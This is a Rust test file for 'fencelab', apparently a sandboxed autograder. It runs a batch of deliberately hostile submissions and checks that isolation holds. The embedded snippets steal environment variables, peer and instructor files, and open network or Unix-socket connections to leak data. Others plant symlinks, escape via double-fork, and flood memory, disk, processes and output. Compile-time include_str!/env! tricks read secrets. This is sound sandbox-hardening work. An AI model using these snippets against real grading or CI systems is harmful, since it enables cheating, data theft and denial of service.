//! The attacks as submissions: one `grade` batch of every attack that runs
//! (at the start of `renew`) and every attack at compile time, beside the
//! reference and a correct copy of it (`peer`); then what the batch's
//! reports hold, what survives it, and `--require-isolation`.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use crate::common::{eventually_none, processes_named, processes_under, root};
use crate::{MUTANTS_TEXT, OUT_OF_MEMORY, OUT_OF_SPACE, PEER_MARKER, TOKEN, Targets};
use fencelab::bridge::sandbox::{Layers, Need};

/// Where the reference's `renew` starts doing its work: attacks go before it.
const RENEW: &str =
    "    check_ttl(ttl)?;\n    check_now(now)?;\n    let conn = open(path.as_ref())?;";

/// Attacks that run (name, code put at the start of `renew`).
const RUNTIME: [(&str, &str); 18] = [
    (
        "floods_the_judge",
        r#"{
        // A gigabyte without a newline, written straight to every socket
        // of the server's (the judge's connection among them).
        use std::io::Write;
        use std::os::fd::FromRawFd;
        let flood = vec![b'x'; 1 << 20];
        for fd in 4..64 {
            // SAFETY: the attack's own descriptors, never closed here.
            let mut f = std::mem::ManuallyDrop::new(unsafe { std::fs::File::from_raw_fd(fd) });
            for _ in 0..1024 {
                if f.write_all(&flood).is_err() {
                    break;
                }
            }
        }
        return Ok(true);
    }"#,
    ),
    (
        "capabilities",
        r#"{
        unsafe extern "C" {
            fn capget(header: *mut u32, data: *mut u32) -> i32;
            fn prctl(option: i32, arg: u64, a: u64, b: u64, c: u64) -> i32;
        }
        let mut header = [0x2008_0522u32, 0];
        let mut sets = [0u32; 6];
        let got = unsafe { capget(header.as_mut_ptr(), sets.as_mut_ptr()) };
        // PR_CAPBSET_READ: 1 where the capability is in the bounding set.
        let bounding = (0..64).filter(|&cap| unsafe { prctl(23, cap, 0, 0, 0) } == 1).count();
        let chroot = std::os::unix::fs::chroot("/").is_ok();
        panic!("CAPS capget={got} sets={sets:?} bounding={bounding} chroot={chroot}");
    }"#,
    ),
    (
        "links_for_the_judge",
        r#"{
        let db = path.as_ref();
        let out = std::path::Path::new("OUTSIDE_DIR");
        let name = |suffix: &str| std::path::PathBuf::from(format!("{}{suffix}", db.display()));
        for suffix in ["", "-journal", "-wal", "-shm"] {
            let _ = std::fs::remove_file(name(suffix));
            let _ = std::os::unix::fs::symlink(out.join(format!("db{suffix}")), name(suffix));
        }
        if let Some(dir) = db.parent() {
            let _ = std::fs::rename(dir, dir.with_extension("moved"));
            let _ = std::os::unix::fs::symlink(out, dir);
        }
        return Ok(true);
    }"#,
    ),
    (
        "peer_via_proc",
        r#"{
        let mut seen = String::new();
        if let Ok(entries) = std::fs::read_dir("/proc") {
            for e in entries.flatten() {
                let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
                for arg in String::from_utf8_lossy(&cmd).split('\0') {
                    if arg.ends_with(".rs") {
                        seen.push_str(&std::fs::read_to_string(arg).unwrap_or_default());
                    }
                }
            }
        }
        seen.push_str(&std::fs::read_to_string("PEER_PATH").unwrap_or_default());
        panic!("STOLEN [{seen}]");
    }"#,
    ),
    (
        "instructor_files",
        r#"{
        let mut seen = String::new();
        for dir in ["ROOT/mutants", "ROOT/wheats", "ROOT/tests/behaviour", "ROOT/target/fencelab"] {
            for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
                seen.push_str(&std::fs::read_to_string(e.path()).unwrap_or_default());
            }
        }
        panic!("STOLEN [{seen}]");
    }"#,
    ),
    (
        "environment",
        r#"{
        let seen: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
        panic!("STOLEN [{}]", seen.join(" "));
    }"#,
    ),
    (
        "fencelabs_paths",
        r#"{
        dbg!(file!());
        println!("PRINTED {:?} {:?}", std::env::current_exe(), std::env::args().collect::<Vec<_>>());
        panic!("PATHS {} {:?} {:?}", file!(), std::env::current_exe(), std::env::args().collect::<Vec<_>>());
    }"#,
    ),
    (
        "network",
        r#"{
        use std::io::Write;
        use std::net::ToSocketAddrs;
        let tcp = std::net::TcpStream::connect("TCP_ADDR").map(|mut s| s.write_all(b"LEAK"));
        let udp = std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"LEAK", "UDP_ADDR"));
        let dns = "localhost:80".to_socket_addrs().map(|a| a.count());
        let far = "example.com:53".to_socket_addrs().map(|a| a.count());
        panic!("NET tcp={} udp={} dns={} far={}", tcp.is_ok(), udp.is_ok(), dns.is_ok(), far.is_ok());
    }"#,
    ),
    (
        "unix_socket",
        r#"{
        use std::io::Write;
        let got = std::os::unix::net::UnixStream::connect("UNIX_PATH").map(|mut s| s.write_all(b"LEAK"));
        let siblings = std::fs::read_dir(std::env::temp_dir().join("../..")).map(|d| d.count());
        panic!("UNIX connected={} siblings={:?}", got.is_ok(), siblings.ok());
    }"#,
    ),
    (
        "escapes",
        r#"{
        let _ = std::process::Command::new("setsid").args(["env", "-i", "sleep", "303"]).spawn();
        let _ = std::process::Command::new("sh").args(["-c", "(setsid env -i sleep 304 &) &"]).status();
    }"#,
    ),
    (
        "double_fork",
        r#"{
        let _ = std::process::Command::new("sh")
            .args(["-c", "(setsid env -i sh -c 'cd /; sleep 2; exec sleep 307' &) &"])
            .status();
    }"#,
    ),
    (
        "fills_disk",
        r#"{
        use std::io::Write;
        let chunk = vec![7u8; 1 << 20];
        for n in 0..4 {
            let Ok(mut f) = std::fs::File::create(std::env::temp_dir().join(format!("fill{n}"))) else { break };
            for _ in 0..300 {
                if f.write_all(&chunk).is_err() { break; }
            }
        }
    }"#,
    ),
    (
        "thousand_processes",
        r#"{
        let mut started = 0;
        for _ in 0..1000 {
            if std::process::Command::new("sleep").arg("305").spawn().is_ok() { started += 1; }
        }
        let _ = started;
    }"#,
    ),
    (
        "writes_outside",
        r#"{
        let _ = std::fs::write("/tmp/fencelab-attack-tmp", "x");
        let _ = std::fs::write("HOME_DIR/.fencelab-attack-home", "x");
        let _ = std::fs::write("ROOT/target/fencelab-attack-cache", "x");
    }"#,
    ),
    (
        "memory_bomb",
        r#"{
        let mut hog: Vec<Vec<u8>> = Vec::new();
        for _ in 0..64 {
            hog.push(vec![1u8; 256 << 20]);
        }
        panic!("ALLOCATED {}", hog.len());
    }"#,
    ),
    (
        "memory_bomb_across_processes",
        r#"{
        // 32 processes of 512 MiB each, at once: each within its address
        // space, 16 GiB together. Each fills its buffer, then waits to write
        // it to a pipe nobody reads; the attack waits for one to be killed.
        use std::os::unix::process::ExitStatusExt;
        let mut hogs: Vec<std::process::Child> = (0..32)
            .filter_map(|_| {
                std::process::Command::new("dd")
                    .args(["if=/dev/zero", "bs=512M", "count=1", "status=none"])
                    .stdout(std::process::Stdio::piped())
                    .spawn()
                    .ok()
            })
            .collect();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(8);
        let mut killed = 0;
        while killed == 0 && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(50));
            killed = hogs
                .iter_mut()
                .filter_map(|h| h.try_wait().ok().flatten())
            .filter(|s| s.signal() == Some(9))
                .count();
        }
        panic!("HOGGED {} killed {killed}", hogs.len());
    }"#,
    ),
    (
        "disk_fill_across_files",
        r#"{
        use std::io::Write;
        // 40 files of 200 MiB, each below the limit of a file; what is
        // refused is ignored, and `renew` goes on as if nothing happened.
        let chunk = vec![7u8; 1 << 20];
        for n in 0..40 {
            let Ok(mut f) = std::fs::File::create(std::env::temp_dir().join(format!("many{n}"))) else { continue };
            for _ in 0..200 {
                if f.write_all(&chunk).is_err() { break; }
            }
        }
    }"#,
    ),
    (
        "floods_output",
        r#"{
        let line = "x".repeat(1023);
        for _ in 0..10_000 {
            println!("{line}");
            eprintln!("{line}");
        }
        panic!("FLOODED");
    }"#,
    ),
];

/// Attacks at compile time: each file must be refused before it is built.
const COMPILE_TIME: [(&str, &str); 5] = [
    (
        "env_after_slashes",
        r#"let _s = "//"; let _t: &str = env!("FENCELAB_ATTACK_TOKEN");"#,
    ),
    (
        "include_after_slashes",
        r#"let _s = "a // b"; let _t: &str = include_str!("PEER_PATH");"#,
    ),
    ("path_with_spaces", "#[ path = \"PEER_PATH\" ]\nmod stolen;"),
    (
        "macro_built",
        "macro_rules! m { ($x:ident) => { $x!(\"FENCELAB_ATTACK_TOKEN\") } }\nconst _T: &str = m!(env);",
    ),
    (
        "raw_string_hidden",
        "const _S: &str = r#\"\\\"#; const _K: &str = include_str!(\"PEER_PATH\");",
    ),
];

struct Graded {
    json: serde_json::Value,
    /// stdout, stderr and the JSON report, together.
    everything: String,
    leftovers: Vec<String>,
    /// The memory cgroups of the run's still there after it.
    cgroups: Vec<String>,
    targets: Targets,
}

/// The memory cgroups fencelab's process `pid` made that are still there
/// (under this process's own, where fencelab makes them).
fn cgroups_of(pid: u32) -> Vec<String> {
    let own = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let Some(path) = own.lines().find_map(|l| {
        let mut parts = l.splitn(3, ':');
        let (_, controllers, path) = (parts.next()?, parts.next()?, parts.next()?);
        controllers
            .split(',')
            .any(|c| c == "memory")
            .then_some(path)
    }) else {
        return Vec::new();
    };
    let dir = Path::new("/sys/fs/cgroup/memory").join(path.trim_start_matches('/'));
    std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(&format!("fencelab-{pid}-")))
        .collect()
}

fn graded() -> &'static Graded {
    static GRADED: OnceLock<Graded> = OnceLock::new();
    GRADED.get_or_init(|| {
        let targets = Targets::new();
        let dir = targets.dir.path();
        let reference = fencelab::lab::reference::REFERENCE;
        assert!(reference.contains(RENEW));
        let mut paths = vec![root().join("src/lease.rs"), targets.peer.clone()];
        let bounded = fencelab::bridge::sandbox::Layers::probe().memory;
        for (name, code) in RUNTIME {
            if name == "memory_bomb_across_processes" && !bounded {
                // Unbounded, it would take the machine's memory.
                continue;
            }
            let source = reference.replacen(RENEW, &format!("{}\n{RENEW}", targets.fill(code)), 1);
            let file = dir.join(format!("{name}.rs"));
            std::fs::write(&file, source).unwrap();
            paths.push(file);
        }
        for (name, code) in COMPILE_TIME {
            let file = dir.join(format!("{name}.rs"));
            std::fs::write(&file, format!("{reference}\n{}\n", targets.fill(code))).unwrap();
            paths.push(file);
        }
        let json = dir.join("grade.json");
        let tmp = tempfile::tempdir().unwrap();
        let child = Command::new(env!("CARGO_BIN_EXE_fencelab"))
            .arg("grade")
            .args(&paths)
            // No budget: what stops each attack is the cage's to say (out of
            // space, of memory, a timeout), whatever the machine's load; a
            // budget would stop a slow one first, with no reason to read.
            .args([
                "--timeout",
                "10",
                "--budget",
                "100000",
                "--jobs",
                "2",
                "--json",
            ])
            .arg(&json)
            .env("TMPDIR", tmp.path())
            .env("FENCELAB_ATTACK_TOKEN", TOKEN)
            .env("NO_COLOR", "1")
            .env_remove("GITHUB_ACTIONS")
            .env_remove("GITHUB_STEP_SUMMARY")
            .current_dir(root())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let pid = child.id();
        let out = child.wait_with_output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        let report = std::fs::read_to_string(&json).unwrap_or_else(|e| panic!("{e}: {stderr}"));
        let leftovers = eventually_none(|| {
            let mut found = processes_under(tmp.path());
            for n in 303..=307 {
                found.extend(processes_named(&format!("sleep {n}")));
            }
            found
        });
        Graded {
            json: serde_json::from_str(&report).unwrap(),
            everything: format!("{stdout}\n{stderr}\n{report}"),
            leftovers,
            cgroups: cgroups_of(pid),
            targets,
        }
    })
}

fn submission(name: &str) -> &'static serde_json::Value {
    graded().json["submissions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"].as_str().unwrap().ends_with(&format!("{name}.rs")))
        .unwrap_or_else(|| panic!("no submission {name}: {}", graded().everything))
}

/// The failure messages of a submission's tests, together.
fn messages(name: &str) -> String {
    submission(name)["tests"]
        .as_array()
        .map(|tests| {
            tests
                .iter()
                .filter_map(|t| t["message"].as_str())
                .collect::<Vec<_>>()
                .join("\n")
        })
        .unwrap_or_default()
}

#[test]
fn nothing_the_attacks_took_reaches_the_report() {
    let all = &graded().everything;
    for secret in [
        TOKEN,
        PEER_MARKER,
        MUTANTS_TEXT,
        "fn holder_extends_a_live_lease",
    ] {
        assert!(!all.contains(secret), "{secret} reached the report");
    }
    // The attacks ran (their messages are there) and got nothing.
    assert!(
        messages("peer_via_proc").contains("STOLEN []"),
        "{}",
        messages("peer_via_proc")
    );
    assert!(
        messages("instructor_files").contains("STOLEN []"),
        "{}",
        messages("instructor_files")
    );
    let env = messages("environment");
    assert!(env.contains("STOLEN ["), "{env}");
    assert!(
        !env.contains("FENCELAB_ATTACK_TOKEN") && !env.contains("CARGO"),
        "{env}"
    );
    // Nor its trial's key: it cannot write what reads as fencelab's words.
    assert!(!env.contains("FENCELAB_SAID_KEY"), "{env}");
}

/// Where fencelab keeps a submission (its scratch crate, its server, the key
/// it is hosted under) never reaches the report, as the submission asks it
/// (`file!()`, `dbg!`, its command line): its file is the one it was
/// submitted as, its server a name.
#[test]
fn the_scratch_paths_a_submission_asks_for_reach_no_report() {
    let said = messages("fencelabs_paths");
    // Its file is the one it was submitted as, in its panic and its dbg!;
    // its program and key are names.
    assert!(
        said.contains("fencelabs_paths.rs Ok(\"fencelab-server\") [\"fencelab-server\", \"serve\", \"implementation\""),
        "{said}"
    );
    assert!(
        said.contains("fencelabs_paths.rs:")
            && said.contains("file!() = \"")
            && said.contains("/fencelabs_paths.rs\"\n"),
        "its dbg!: {said}"
    );
    assert!(
        said.contains("PRINTED Ok(\"fencelab-server\")"),
        "what it printed: {said}"
    );
    for internal in ["crates/impl-", "server-", "target/", ".cache", "impl-"] {
        assert!(
            !said.contains(internal),
            "{internal} reached the report: {said}"
        );
    }
}

#[test]
fn no_network_and_no_socket_of_the_graders() {
    let net = messages("network");
    assert!(
        net.contains("NET tcp=false udp=false dns=false far=false"),
        "{net}"
    );
    let unix = messages("unix_socket");
    assert!(
        unix.contains("UNIX connected=false siblings=None"),
        "{unix}"
    );
    let targets = &graded().targets;
    assert!(
        targets.tcp.accept().is_err(),
        "a TCP connection got through"
    );
    assert!(
        targets.udp.recv(&mut [0u8; 16]).is_err(),
        "a datagram got through"
    );
    assert!(
        targets.unix.accept().is_err(),
        "the grader's socket was reached"
    );
}

#[test]
fn nothing_outlives_the_run_and_nothing_is_written_outside_the_trial() {
    assert!(graded().leftovers.is_empty(), "{:?}", graded().leftovers);
    let home = std::env::var("HOME").unwrap_or("/root".into());
    for path in [
        PathBuf::from("/tmp/fencelab-attack-tmp"),
        Path::new(&home).join(".fencelab-attack-home"),
        root().join("target/fencelab-attack-cache"),
    ] {
        assert!(!path.exists(), "{} was written", path.display());
    }
}

#[test]
fn a_correct_submission_beside_the_attacks_scores_what_it_scores_alone() {
    for correct in ["lease", "peer"] {
        assert_eq!(submission(correct)["score"], 100.0, "{correct}");
    }
    // The attacks that only take their own trial down fail there, with
    // their reason, and the output is capped.
    let flooded = submission("floods_output")["tests"].as_array().unwrap();
    for t in flooded.iter().filter(|t| t["outcome"] != "passed") {
        let message = t["message"].as_str().unwrap_or("");
        assert!(message.len() < 20 * 1024, "{} bytes", message.len());
    }
    let memory = messages("memory_bomb");
    assert!(!memory.contains("ALLOCATED 64"), "{memory}");
}

/// A gigabyte is read no further than 8 MiB: the judge's memory
/// stays bounded, the call fails with that reason, and alone.
#[test]
fn a_flood_to_the_judge_fails_its_test_alone() {
    let said = messages("floods_the_judge");
    assert!(
        said.contains("it sent an answer of more than 8 MiB"),
        "{said}"
    );
    assert!(said.len() < 64 * 1024, "{} bytes", said.len());
    for correct in ["lease", "peer"] {
        assert_eq!(submission(correct)["score"], 100.0, "{correct}");
    }
}

/// Untrusted code holds no capability, in its user namespace or the
/// machine's: none effective, permitted, inheritable, bounding or ambient.
#[test]
fn untrusted_code_holds_no_capability() {
    let said = messages("capabilities");
    assert!(
        said.contains("CAPS capget=0 sets=[0, 0, 0, 0, 0, 0] bounding=0 chroot=false"),
        "{said}"
    );
}

/// The judge runs uncaged, as the grader's user: a link the implementation
/// planted where its database or journal is, or where its directory is,
/// is never followed (`tests/behaviour/support.rs`: `connect`, `Db`).
#[test]
fn links_planted_for_the_judge_lead_nowhere() {
    let outside = graded().targets.outside();
    let created: Vec<_> = std::fs::read_dir(&outside)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(
        created.is_empty(),
        "the judge created {created:?} outside the trial"
    );
    let links = messages("links_for_the_judge");
    assert!(
        submission("links_for_the_judge")["score"].as_f64() < Some(100.0),
        "{links}"
    );
}

#[test]
fn memory_bomb_across_processes() {
    if !Layers::test_needs(&[Need::Memory]) {
        return;
    }
    let memory = messages("memory_bomb_across_processes");
    assert!(memory.contains(OUT_OF_MEMORY), "{memory}");
    assert!(submission("memory_bomb_across_processes")["score"].as_f64() < Some(100.0));
    // It failed alone: no other submission ran out (but the one-process
    // bomb, which a memory cgroup now stops before its address space does).
    for s in graded().json["submissions"].as_array().unwrap() {
        let name = s["name"].as_str().unwrap();
        if !name.contains("memory_bomb") {
            assert!(!s.to_string().contains(OUT_OF_MEMORY), "{name}: {s}");
        }
    }
    for correct in ["lease", "peer"] {
        assert_eq!(submission(correct)["score"], 100.0, "{correct}");
    }
    assert!(graded().leftovers.is_empty(), "{:?}", graded().leftovers);
    assert!(
        graded().cgroups.is_empty(),
        "left behind: {:?}",
        graded().cgroups
    );
}

#[test]
fn disk_fill_across_files() {
    if !Layers::test_needs(&[Need::Space]) {
        return;
    }
    let disk = messages("disk_fill_across_files");
    assert!(disk.contains(OUT_OF_SPACE), "{disk}");
    assert!(submission("disk_fill_across_files")["score"].as_f64() < Some(100.0));
    for s in graded().json["submissions"].as_array().unwrap() {
        let name = s["name"].as_str().unwrap();
        if !name.contains("disk_fill_across_files") {
            assert!(!s.to_string().contains(OUT_OF_SPACE), "{name}: {s}");
        }
    }
    for correct in ["lease", "peer"] {
        assert_eq!(submission(correct)["score"], 100.0, "{correct}");
    }
    assert!(graded().leftovers.is_empty(), "{:?}", graded().leftovers);
}

#[test]
fn reading_at_compile_time_is_refused_however_it_is_hidden() {
    for (name, _) in COMPILE_TIME {
        let s = submission(name);
        assert_eq!(s["score"], 0.0, "{name}: {s}");
        let reason = s.to_string();
        assert!(
            reason.contains("reads files or the environment while compiling"),
            "{name}: {reason}"
        );
    }
}

#[test]
fn require_isolation_refuses_where_a_layer_is_missing() {
    let run = |without: Option<&str>| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_fencelab"));
        command
            .args(["grade", "--require-isolation", "does-not-exist.rs"])
            .env("NO_COLOR", "1")
            .current_dir(root());
        if let Some(layer) = without {
            command.env("FENCELAB_CAGE_WITHOUT", layer);
        }
        let out = command.output().unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let layers = fencelab::bridge::sandbox::Layers::probe();
    for layer in ["namespaces", "landlock", "memory", "space"] {
        let (code, stderr) = run(Some(layer));
        assert_eq!(code, Some(4), "{layer}: {stderr}");
        assert!(stderr.contains("--require-isolation"), "{stderr}");
    }
    // Said in words (as the printer wraps them).
    let said = |layer: &str| {
        let (_, stderr) = run(Some(layer));
        stderr.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    assert!(
        said("memory")
            .contains("memory across a trial's processes: not bounded (no writable memory cgroup)"),
        "{}",
        said("memory")
    );
    assert!(
        said("space").contains("total space per trial: not bounded"),
        "{}",
        said("space")
    );
    if layers.namespaces && layers.landlock.is_some() && layers.memory && layers.space {
        // Everything is there: it goes on (to a missing file, exit 2).
        let (code, stderr) = run(None);
        assert_eq!(code, Some(2), "{stderr}");
        assert!(!stderr.contains("warning"), "{stderr}");
    }
}
